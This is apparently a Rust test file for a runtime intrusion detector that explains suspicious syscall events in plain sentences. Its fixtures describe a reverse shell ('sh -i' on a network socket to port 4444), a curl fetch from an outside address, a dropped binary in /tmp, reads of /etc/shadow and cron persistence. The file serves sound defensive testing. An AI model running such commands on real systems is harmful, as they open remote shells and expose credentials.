//! Reasons say who did what to what, and why it matters, in one plain sentence.

use serde_json::{Value, json};

use crate::common::{World, accept, connect, exec, open, options, web_server, write};

fn world() -> World {
    let mut world = World::new(options());
    world.live(&web_server());
    world
}

/// The sentences of `steps`, by code.
fn told(steps: &[Value]) -> Vec<(String, String)> {
    let mut world = world();
    steps
        .iter()
        .flat_map(|fields| {
            world.now += 1;
            world.deviation(fields).reasons
        })
        .map(|reason| (reason.code.to_string(), reason.text))
        .collect()
}

#[track_caller]
fn says(steps: &[Value], expected: &[(&str, &str)]) {
    let told = told(steps);
    for (code, text) in expected {
        let found: Vec<&str> = told
            .iter()
            .filter(|(other, _)| other == code)
            .map(|(_, text)| text.as_str())
            .collect();
        assert!(found.contains(text), "`{text}` is not among {told:#?}");
    }
}

#[test]
fn a_break_in_reads_like_a_story() {
    let shell = json!({"evt.type": "execve", "proc.name": "sh", "proc.pname": "nginx",
                       "proc.cmdline": "sh -i", "proc.exepath": "/bin/sh", "proc.stdin.type": "ipv4"});
    says(
        &[shell],
        &[
            (
                "new_lineage",
                "`nginx` started `sh`, which it never did before",
            ),
            (
                "shell_from_server",
                "`nginx`, which answers connections, started the shell `sh`, as after a break-in",
            ),
            (
                "socket_as_input",
                "`nginx` started `sh` on a network connection, so that whoever is at the other end \
                 types its input",
            ),
            (
                "new_process",
                "`nginx` started `sh`, a program that this workload never ran before",
            ),
            (
                "shell",
                "`nginx` started `sh`, a shell, which runs whatever it is told",
            ),
            (
                "suspicious_command",
                "`sh` was told to run a command with `sh -i`, which opens a shell for somebody to \
                 type into",
            ),
        ],
    );
    says(
        &[connect("sh", "45.9.148.3:4444")],
        &[
            (
                "new_destination",
                "`sh` connected to `45.9.148.0/24:4444`, which it never did before",
            ),
            (
                "backdoor_port",
                "`sh` connected to `45.9.148.0/24:4444`: port 4444 is the usual one of tools for \
                 attacks",
            ),
        ],
    );
}

#[test]
fn a_dropped_program_names_who_ran_it() {
    let run = json!({"evt.type": "execve", "proc.name": "agent", "proc.pname": "sh",
                     "proc.exepath": "/tmp/.x/agent", "proc.cmdline": "agent",
                     "proc.is_exe_upper_layer": true});
    says(
        &[write("sh", "/tmp/.x/agent"), run],
        &[
            (
                "dropped_executable",
                "`sh` started `/tmp/.x/agent`, a file that was written here shortly before",
            ),
            (
                "not_in_image",
                "`sh` started `/tmp/.x/agent`, a file that is not part of the image",
            ),
        ],
    );
    says(
        &[
            write("sh", "/dev/shm/ccache"),
            exec(
                "sh",
                "timeout",
                "timeout 3 /dev/shm/ccache 45.9.148.108 3333",
            ),
        ],
        &[(
            "dropped_argument",
            "`sh` started `timeout` with `/dev/shm/ccache`, a file that was written here shortly before",
        )],
    );
    let refused = json!({"evt.type": "execve", "evt.res": "EACCES", "proc.name": "sh",
                         "evt.arg.filename": "/tmp/.x/agent"});
    says(
        &[write("sh", "/tmp/.x/agent"), refused],
        &[(
            "dropped_executable",
            "`sh` tried to run `/tmp/.x/agent`, a file that was written here shortly before",
        )],
    );
}

#[test]
fn sentences_name_who_did_what() {
    says(
        &[open("cat", "/etc/shadow")],
        &[
            (
                "credentials",
                "`cat` opened `/etc/shadow`, which holds credentials",
            ),
            (
                "new_process",
                "`cat` ran, a program that this workload never ran before",
            ),
        ],
    );
    says(
        &[write("nginx", "/etc/cron.d/x")],
        &[(
            "persistence",
            "`nginx` wrote to `/etc/cron.d/x`, from where it takes effect again and again",
        )],
    );
    says(
        &[open("nginx", "/etc/group")],
        &[(
            "accounts",
            "`nginx`, which answers connections, opened `/etc/group`, the list of accounts, which \
             it never needed before",
        )],
    );
    says(
        &[connect("nginx", "169.254.169.254:80")],
        &[(
            "metadata_service",
            "`nginx` connected to the cloud's metadata service, which gives out the machine's \
             credentials",
        )],
    );
    says(
        &[connect("worker", "45.9.148.3:3333")],
        &[(
            "miner_port",
            "`worker` connected to `45.9.148.0/24:3333`: port 3333 is where pools of \
             crypto-currency miners listen",
        )],
    );
    says(
        &[json!({"evt.type": "ptrace", "proc.name": "nginx"})],
        &[(
            "powerful_call",
            "`nginx` called `ptrace`, which reads or changes what another process does",
        )],
    );
    says(
        &[
            json!({"evt.type": "unlinkat", "proc.name": "nginx", "fs.path.name": "/var/log/nginx/old.log"}),
        ],
        &[(
            "log_removed",
            "`nginx` removed the log `/var/log/nginx/old.log`",
        )],
    );
    says(
        &[accept("nginx", "198.51.100.7:50000", 8443)],
        &[(
            "new_origin",
            "`nginx` took a connection at port 8443 from a public address, which it never did before",
        )],
    );
}

#[test]
fn every_sentence_names_the_process_or_who_started_it() {
    let events = [
        exec("nginx", "curl", "curl -s http://45.9.148.3/x"),
        open("nginx", "/srv/x"),
        write("nginx", "/usr/bin/x"),
        write("nginx", "/tmp/.hidden.sh"),
        connect("nginx", "10.9.9.9:9001"),
        accept("nginx", "10.0.0.1:50000", 4444),
        json!({"evt.type": "bind", "proc.name": "nginx", "fd.name": "0.0.0.0:4444", "fd.type": "ipv4"}),
        json!({"evt.type": "dup2", "proc.name": "nginx", "fd.type": "ipv4", "fd.num": 0,
               "fd.name": "172.17.0.2:41000->45.9.148.3:4444"}),
        json!({"evt.type": "connect", "proc.name": "nginx", "fd.type": "unix", "fd.name": "/run/docker.sock"}),
        json!({"evt.type": "chmod", "proc.name": "nginx", "evt.arg.filename": "/tmp/a", "evt.arg.mode": "S_IXUSR"}),
        json!({"evt.type": "socket", "proc.name": "nginx", "evt.arg.domain": "AF_PACKET"}),
        json!({"evt.type": "setns", "proc.name": "nginx"}),
    ];
    for fields in events {
        for (code, text) in told(std::slice::from_ref(&fields)) {
            if code == "closest_known" {
                continue;
            }
            let process = fields["proc.name"].as_str().unwrap();
            assert!(
                text.contains(&format!("`{process}`")) || text.contains("`nginx`"),
                "{code}: {text}"
            );
            assert!(!text.ends_with('.') && text.len() < 220, "{code}: {text}");
        }
    }
}
